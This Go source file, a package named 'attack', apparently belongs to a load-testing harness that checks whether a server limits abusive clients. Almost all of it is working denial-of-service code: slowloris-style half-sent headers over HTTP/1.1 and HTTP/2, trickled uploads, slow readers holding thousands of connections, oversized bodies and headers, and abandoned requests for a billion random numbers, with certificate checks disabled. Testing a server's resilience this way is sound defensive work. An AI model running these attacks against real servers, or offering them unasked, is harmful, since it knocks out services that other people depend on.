// Package attack holds what one client can do to a server that does not limit it. The attacks stop at their context's end,
// and are bounded in number, so that a test machine survives them.
package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Dial opens a connection to the server.
type Dial func(ctx context.Context) (net.Conn, error)

// To returns a Dial to an address, from a local one unless source is empty.
func To(address, source string) Dial {
	d := net.Dialer{Timeout: 10 * time.Second}
	if source != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(source)}
	}
	return func(ctx context.Context) (net.Conn, error) { return d.DialContext(ctx, "tcp", address) }
}

// TLS returns a Dial that makes a TLS handshake on each connection, for a protocol: http/1.1 or h2.
func (d Dial) TLS(protocol string) Dial {
	return func(ctx context.Context) (net.Conn, error) {
		c, err := d(ctx)
		if err != nil {
			return nil, err
		}
		t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}})
		if err := t.HandshakeContext(ctx); err != nil {
			c.Close()
			return nil, err
		}
		return t, nil
	}
}

// Kinds are the attacks by name. Each ends with its context.
var Kinds = map[string]func(context.Context, Dial){
	"large bodies":      LargeBodies,
	"large headers":     LargeHeaders,
	"half-sent headers": func(ctx context.Context, d Dial) { Hold(ctx, d, 9000, halfHeader) },
	"slow uploads":      func(ctx context.Context, d Dial) { Hold(ctx, d, 1200, slowUpload) },
	"slow readers":      func(ctx context.Context, d Dial) { Hold(ctx, d, 600, slowReader) },
	"idle connections":  func(ctx context.Context, d Dial) { Hold(ctx, d, 2000, idle) },
	"abandoned draws":   AbandonedDraws,
}

// TLSKinds are the attacks that need TLS, by the protocol in it.
var TLSKinds = map[string]func(context.Context, Dial){
	"http/1.1": Kinds["half-sent headers"],
	"h2":       func(ctx context.Context, d Dial) { Hold(ctx, d, 9000, halfHeaderH2) },
}

// head is the start of a request.
const head = " HTTP/1.1\r\nHost: localhost\r\n"

// LargeBodies sends bodies of 130 KB, seven a second.
func LargeBodies(ctx context.Context, d Dial) {
	each(ctx, time.Second/7, func() {
		c, err := d(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		_, _ = io.WriteString(c, "GET /info"+head+"Content-Length: 130000\r\n\r\n"+strings.Repeat("b", 130_000))
		if res, err := http.ReadResponse(bufio.NewReader(c), nil); err == nil {
			res.Body.Close()
		}
	})
}

// LargeHeaders sends URLs and headers of 4 to 40 KiB, forty a second.
func LargeHeaders(ctx context.Context, d Dial) {
	n := counter()
	each(ctx, 25*time.Millisecond, func() {
		c, err := d(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		size := n()
		filler := strings.Repeat("f", (4+size%36)<<10)
		request := "GET /info?" + filler + head + "\r\n"
		if size%2 == 0 {
			request = "GET /info" + head + "X-Filler: " + filler + "\r\n\r\n"
		}
		_, _ = io.WriteString(c, request)
		if res, err := http.ReadResponse(bufio.NewReader(c), nil); err == nil {
			res.Body.Close()
		}
	})
}

// AbandonedDraws asks for a thousand million numbers and goes away after some milliseconds.
func AbandonedDraws(ctx context.Context, d Dial) {
	each(ctx, 10*time.Millisecond, func() {
		if c, err := d(ctx); err == nil {
			_, _ = io.WriteString(c, "GET /api/randoms?cant=1000000000"+head+"\r\n")
			time.Sleep(3 * time.Millisecond)
			c.Close()
		}
	})
}

// each starts an attempt at every interval, at most 100 at a time, until ctx ends.
func each(ctx context.Context, interval time.Duration, attempt func()) {
	var running sync.WaitGroup
	defer running.Wait()
	slots := make(chan struct{}, 100)
	for ticks := time.NewTicker(interval); ; {
		select {
		case <-ctx.Done():
			ticks.Stop()
			return
		case <-ticks.C:
			slots <- struct{}{}
			running.Go(func() {
				attempt()
				<-slots
			})
		}
	}
}

// halfHeader sends a header that never ends, nearly as much of it as nginx keeps.
func halfHeader(ctx context.Context, c net.Conn) {
	_, _ = io.WriteString(c, "GET /info"+head+"X-Half: "+strings.Repeat("h", 31<<10))
	idle(ctx, c)
}

// halfHeaderH2 is halfHeader by HTTP/2, where the header is in several fields.
func halfHeaderH2(ctx context.Context, c net.Conn) {
	var sent, block bytes.Buffer
	sent.WriteString(http2.ClientPreface)
	frames, fields := http2.NewFramer(&sent, nil), hpack.NewEncoder(&block)
	field := func(name, value string) { _ = fields.WriteField(hpack.HeaderField{Name: name, Value: value}) } // a buffer takes all
	field(":method", "GET")
	field(":scheme", "https")
	field(":path", "/info")
	field(":authority", "localhost")
	for i := range 31 {
		field(fmt.Sprint("x-", i), strings.Repeat("h", 1000))
	}
	half := block.Bytes()
	_ = frames.WriteSettings()
	_ = frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: half[:len(half)/2]})
	_ = frames.WriteContinuation(1, false, half[len(half)/2:])
	_, _ = c.Write(sent.Bytes())
	idle(ctx, c)
}

// idle waits until the server closes the connection.
func idle(_ context.Context, c net.Conn) { _, _ = io.Copy(io.Discard, c) }

// slowUpload sends nearly all of a body that is within the limit, and then a byte now and then.
func slowUpload(ctx context.Context, c net.Conn) {
	_, err := io.WriteString(c, "POST /api/productos"+head+"Content-Length: 65536\r\n\r\n"+strings.Repeat("b", 60_000))
	for err == nil && ctx.Err() == nil {
		time.Sleep(time.Second)
		_, err = io.WriteString(c, "b")
	}
}

// slowReader asks for many answers and reads none for a minute.
func slowReader(ctx context.Context, c net.Conn) {
	_, _ = io.WriteString(c, strings.Repeat("GET /login"+head+"\r\n", 100))
	select {
	case <-ctx.Done():
	case <-time.After(time.Minute):
	}
}

// Hold opens n connections and uses each. When the server closes one it opens another a while later, until ctx ends.
func Hold(ctx context.Context, d Dial, n int, use func(context.Context, net.Conn)) {
	var all sync.WaitGroup
	defer all.Wait()
	opening := make(chan struct{}, 20) // at a time
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				opening <- struct{}{}
				c, err := d(ctx)
				<-opening
				if err == nil {
					stop := context.AfterFunc(ctx, func() { c.Close() })
					use(ctx, c)
					stop()
					c.Close()
				}
				select {
				case <-ctx.Done():
				case <-time.After(2 * time.Second):
				}
			}
		})
	}
}
